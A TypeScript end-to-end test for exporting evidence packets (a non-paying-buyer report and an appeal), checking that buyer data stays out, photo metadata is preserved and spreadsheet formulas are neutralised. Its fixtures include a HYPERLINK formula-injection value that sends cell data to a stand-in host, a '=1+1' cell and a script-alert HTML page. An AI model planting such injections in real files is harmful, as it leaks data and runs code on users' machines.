import { strict as assert } from 'node:assert';
import { readFile, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import sharp from 'sharp';
import type { Client } from '../../shared/contract/index.ts';
import type { Language } from '../../shared/i18n/index.ts';
import { importRows, MALICIOUS_ORDER, newStore, orderNumbers, takeIn } from '../helpers/case.ts';
import { openTestCore, resultOf, type TestCore } from '../helpers/core.ts';
import { putFile, screenshot, testFolder } from '../helpers/files.ts';
import {
  DELIVERY,
  flaggedNumbers,
  noticeStore,
  openFromNotice,
  proveOrders,
} from '../helpers/notice-case.ts';
import { squeeze } from '../helpers/pdf.ts';
import { pdfFile } from '../e2e/inputs.ts';
import {
  checkManifests,
  checkPdfPictures,
  isNamed,
  kitFiles,
  kitPictures,
  NAMES,
  openLists,
  pictureTags,
  readPdf,
} from './read-packet.ts';

export const name = 'whole packets of both walks, in both languages';
export const tools = ['qpdf', 'pdftotext', 'pdfimages', 'sha256sum', 'grep', 'exiftool', 'soffice'];
export const aptPackages = [
  'qpdf',
  'poppler-utils',
  'coreutils',
  'grep',
  'libimage-exiftool-perl',
  'libreoffice-calc',
];

/** Who is in the order export and must not be in material that nobody asked for: the export's own row tells all this. */
const BUYER = { name: 'Mikhail Orlov', address: 'Lenina 1', phone: '916 1234567' };
const MAKER = 'SECRETMAKER';
const FORMULA = '=HYPERLINK("http://a.b/?"&A1,"x")';

const WORDS = {
  'zh-CN': {
    title: '关于买家连续拍下不付款的举报说明',
    sentences: [
      '买家两天内拍下两笔订单，至今没有付款。',
      '聊天里买家说还会再拍、不会付款；“就是不付”。',
      '他在店里没有任何一笔付过款的订单。',
    ],
    facts: ['同一买家连拍两单未付款。', '-买家在聊天里承认不付款。'],
    claims: ['以下订单均为真实交易，发货、签收和聊天记录齐全。', '每一笔都由快递公司揽收并派送签收。'],
    plan: '从本月起每单发货前扫描底单，当天归档。',
    reason: '快递网点只留三个月，已经销毁',
    unproven: '凭证已无法取得的订单',
  },
  en: {
    title: 'Report of orders placed and never paid',
    sentences: [
      'The buyer placed two orders within two days and paid for neither.',
      'In the chat the buyer says that more will follow; "I just won\'t pay".',
      'No order of this account was ever paid.',
    ],
    facts: [
      'The same buyer placed two orders and paid neither.',
      '-The buyer admits in the chat that nothing will be paid.',
    ],
    claims: [
      'The orders below are genuine: shipped, delivered and talked over.',
      'Each was picked up and delivered by the courier.',
    ],
    plan: 'From this month every slip is scanned before hand-over and filed the same day.',
    reason: 'The branch keeps slips for three months only',
    unproven: 'Orders whose vouchers can no longer be obtained',
  },
} as const;

interface Packet {
  readonly folder: string;
  readonly language: Language;
  /** Exhibits in the order of their numbers: file name, what it is called, the orders it stands for. */
  readonly exhibits: readonly {
    readonly fileName: string;
    readonly label: string;
    readonly orders: string;
  }[];
}

async function write(
  client: Client,
  caseId: string,
  language: Language,
  document: 'statement' | 'plan',
  sentences: readonly { readonly text: string; readonly factIds: string[] }[],
): Promise<void> {
  const { version, title, sections } = await client.drafting.get({ caseId, document, language });
  const [first] = sections;
  await client.drafting.save({
    caseId,
    document,
    language,
    baseVersion: version,
    title: document === 'statement' ? WORDS[language].title : title,
    sections: [{ heading: first?.heading ?? '', paragraphs: [{ sentences: [...sentences] }] }],
  });
}

async function fact(client: Client, caseId: string, text: string, itemId: string): Promise<string> {
  const { id } = await client.facts.create({ caseId, text, citations: [{ itemId }] });
  await client.facts.confirm({ factId: id, confirmed: true });
  return id;
}

async function exportTo(
  core: TestCore,
  caseId: string,
  language: Language,
  originals: boolean,
): Promise<string> {
  const { client, folder } = core;
  await resultOf(client, await client.packets.export({ caseId, language, originals }));
  const [packet] = await client.packets.list({ caseId });
  return join(folder, 'exports', ...(packet?.folder ?? '').split('/'));
}

/** A report with every kind of file: a picture that tells who took it, a PDF, a chat log, a text, a page that is only listed. */
async function report(
  core: TestCore,
  files: string,
  language: Language,
): Promise<Packet & { photo: string }> {
  const { client } = core;
  const words = WORDS[language];
  const storeId = await newStore(client, `Store ${language}`);
  const orders = orderNumbers(2, language === 'en' ? 700 : 800);
  await importRows(
    client,
    files,
    storeId,
    orders.map((orderNumber) => ({ orderNumber, buyerName: BUYER.name })),
  );
  const { id: caseId } = await client.cases.create({
    storeId,
    scenarioId: MALICIOUS_ORDER,
    orderNumbers: orders,
  });
  const photo = await putFile(
    files,
    `photo-${language}.jpg`,
    await sharp(await screenshot(61, 300, 200))
      .withExif({
        IFD0: { Make: MAKER, Artist: MAKER },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 15/1 0/1' },
      })
      .jpeg()
      .toBuffer(),
  );
  const paths = [
    photo,
    await putFile(files, `${orders[0] ?? ''}.png`, await screenshot(language === 'en' ? 62 : 63, 200, 3200)),
    await putFile(files, `history-${language}.pdf`, pdfFile('history.pdf').buffer),
    await putFile(files, `chat-${language}.txt`, `buyer: I won't pay ${language}\r\n=1+1\r\n`),
    await putFile(
      files,
      `page-${language}.html`,
      `<!doctype html><title>${language}</title><script>alert(1)</script>`,
    ),
  ];
  const itemIds = await takeIn(client, paths, caseId);
  const [photoId = '', shotId = '', , chatId = ''] = itemIds;
  await client.evidence.describe({ itemId: photoId, label: FORMULA });
  const { requirements } = await client.requirements.coverage({ caseId });
  for (const [place, { id }] of requirements.entries())
    await client.requirements.meet({
      caseId,
      requirementId: id,
      itemIds: [itemIds[place % itemIds.length] ?? ''],
    });
  const factIds = [
    await fact(client, caseId, words.facts[0], shotId),
    await fact(client, caseId, words.facts[1], chatId),
  ];
  await write(
    client,
    caseId,
    language,
    'statement',
    words.sentences.map((text, place) => ({ text, factIds: [factIds[place % 2] ?? ''] })),
  );
  const folder = await exportTo(core, caseId, language, true);
  const exhibits = (await client.evidence.exhibits({ caseId })).map(({ item }) => ({
    fileName: item.fileName,
    label: item.label === '' ? item.fileName : item.label,
    orders: item.fileName.startsWith(orders[0] ?? '') ? (orders[0] ?? '') : '',
  }));
  return { folder, language, exhibits, photo };
}

/** Checks what holds of any packet; answers with the words of its PDF. */
async function checkAny(packet: Packet, scratch: string, originals: boolean): Promise<string> {
  const { folder, language, exhibits } = packet;
  const names = NAMES[language];
  const words = await readPdf(folder, language);
  for (const [place, { label }] of exhibits.entries()) {
    for (const each of [names.exhibit(place + 1), label])
      assert.ok(words.includes(squeeze(each)), `${each} is not in the PDF (${language})`);
  }
  assert.equal(await checkManifests(folder, language, originals), 2 + (originals ? exhibits.length : 0));
  assert.ok((await checkPdfPictures(folder, language, scratch)) > 0);
  for (const each of Object.values(BUYER)) {
    assert.ok(!words.includes(squeeze(each)), `${each} is in the PDF (${language})`);
    assert.ok(!(await isNamed(folder, each)), `${each} is in the packet (${language})`);
  }
  return words;
}

async function checkReport(packet: Packet & { photo: string }, scratch: string): Promise<void> {
  const { folder, language, photo } = packet;
  const texts = WORDS[language];
  const words = await checkAny(packet, scratch, true);
  for (const each of [texts.title, ...texts.sentences, ...texts.facts])
    assert.ok(words.includes(squeeze(each)), `${each} is not in the PDF (${language})`);
  const kit = await kitFiles(folder, language);
  const copied = await Promise.all(
    kit
      .filter((path) => path.endsWith('.txt'))
      .map((path) => readFile(join(folder, NAMES[language].kit, path), 'utf8')),
  );
  for (const each of texts.sentences)
    assert.ok(
      copied.some((text) => text.includes(each)),
      `${each} cannot be copied`,
    );
  // The photo goes to the platform as it came: nothing is added to what it tells, nothing taken away.
  const pictures = await kitPictures(folder, language);
  const came = await pictureTags(photo);
  assert.ok(came.includes('EXIF:Artist') && came.includes('EXIF:GPSLatitude'), came.join());
  for (const [path, tags] of pictures) assert.deepEqual(tags, path.endsWith('.jpg') ? came : [], path);
  assert.ok([...pictures.keys()].some((path) => path.endsWith('.jpg')));
}

/** A notice of eight orders: five proven, two listed as no longer obtainable, one admitted among ourselves. */
async function appeal(
  core: TestCore,
  files: string,
  language: Language,
): Promise<Packet & { orders: string[] }> {
  const { client, clock } = core;
  const words = WORDS[language];
  const orders = flaggedNumbers(8, language === 'en' ? 6000 : 6100);
  const genuine = orders.slice(0, 5);
  const storeId = await noticeStore(client, `Shop ${language}`);
  const caseId = await openFromNotice(client, storeId, orders, { issuedAt: clock.now() });
  const itemIds = await proveOrders(client, files, caseId, genuine);
  const sort = (numbers: readonly string[], to: 'documented-genuine' | 'cannot-be-proven' | 'admitted') =>
    client.cases.sortOrders({ caseId, orderNumbers: [...numbers], class: to });
  await sort(genuine, 'documented-genuine');
  await sort(orders.slice(5, 7), 'cannot-be-proven');
  await sort(orders.slice(7), 'admitted');
  const [request = ''] = await takeIn(
    client,
    [await putFile(files, `asked-${language}.png`, await screenshot(language === 'en' ? 66 : 67, 91, 47))],
    caseId,
  );
  await client.requirements.unavailable({
    caseId,
    requirementId: DELIVERY,
    orderNumbers: orders.slice(5, 7),
    reason: words.reason,
    itemIds: [request],
  });
  await client.notices.disclose({ caseId, listsUnproven: true, disclosesAdmitted: false });
  const factId = await fact(client, caseId, words.claims[0], itemIds[0] ?? '');
  await write(
    client,
    caseId,
    language,
    'statement',
    words.claims.map((text) => ({ text, factIds: [factId] })),
  );
  await write(client, caseId, language, 'plan', [{ text: words.plan, factIds: [] }]);
  const folder = await exportTo(core, caseId, language, false);
  const exhibits = (await client.evidence.exhibits({ caseId })).map(({ item }, place) => ({
    fileName: item.fileName,
    label: item.fileName,
    orders: genuine[place] ?? orders.slice(5, 7).join(' '),
  }));
  return { folder, language, exhibits, orders };
}

async function checkAppeal(packet: Packet & { orders: string[] }, scratch: string): Promise<void> {
  const { folder, language, orders } = packet;
  const texts = WORDS[language];
  const names = NAMES[language];
  const words = await checkAny(packet, scratch, false);
  for (const each of [...texts.claims, texts.plan, texts.unproven, texts.reason, ...orders.slice(0, 7)])
    assert.ok(words.includes(squeeze(each)), `${each} is not in the PDF (${language})`);
  const kit = await kitFiles(folder, language);
  for (const [place, number] of orders.entries())
    assert.equal(
      kit.some((path) => path.split('/')[0]?.endsWith(names.order(number)) === true),
      place < 5,
      `${number}: a folder of the kit is ${place < 5 ? 'missing' : 'not an order that is contested'}`,
    );
  const [admitted = ''] = orders.slice(7);
  assert.ok(!words.includes(admitted), 'an admitted order is in the PDF');
  assert.ok(!(await isNamed(folder, admitted)), 'an admitted order is in the packet');
  for (const tags of (await kitPictures(folder, language)).values()) assert.deepEqual(tags, []);
}

/** Each list opened by LibreOffice: what we wrote, cell by cell; order numbers and what looks like a formula as text. */
async function checkLists(packets: readonly Packet[], scratch: string): Promise<void> {
  const lists = packets.map(({ folder, language }) =>
    join(folder, NAMES[language].archive, NAMES[language].list),
  );
  const opened = await openLists(lists, scratch);
  for (const [place, { exhibits, language }] of packets.entries()) {
    const seen = opened[place] ?? [];
    const written: string[][] = parse(await readFile(lists[place] ?? '', 'utf8'), { bom: true });
    assert.deepEqual(seen, written);
    assert.deepEqual(
      seen.slice(1).map(([label, description, , orders, fileName]) => [label, description, orders, fileName]),
      exhibits.map((exhibit, number) => [
        NAMES[language].exhibit(number + 1),
        exhibit.label.startsWith('=') ? `'${exhibit.label}` : exhibit.label,
        // A lone number would lose its last digits: it is kept as text by an apostrophe.
        /^\d+$/.test(exhibit.orders) ? `'${exhibit.orders}` : exhibit.orders,
        exhibit.fileName,
      ]),
    );
  }
}

/** Exports real cases through the core and reads the folders with nothing of ours. */
export async function run(): Promise<void> {
  const core = await openTestCore({ settings: { idleMinutes: 0 } });
  const files = await testFolder();
  const scratch = await testFolder();
  try {
    const packets: Packet[] = [];
    for (const language of ['zh-CN', 'en'] as const) {
      const reported = await report(core, files, language);
      await checkReport(reported, join(scratch, `report-${language}`));
      const appealed = await appeal(core, files, language);
      await checkAppeal(appealed, join(scratch, `appeal-${language}`));
      packets.push(reported, appealed);
    }
    await checkLists(packets, scratch);
  } finally {
    await core.close();
    await rm(files, { recursive: true, force: true });
    await rm(scratch, { recursive: true, force: true });
  }
}
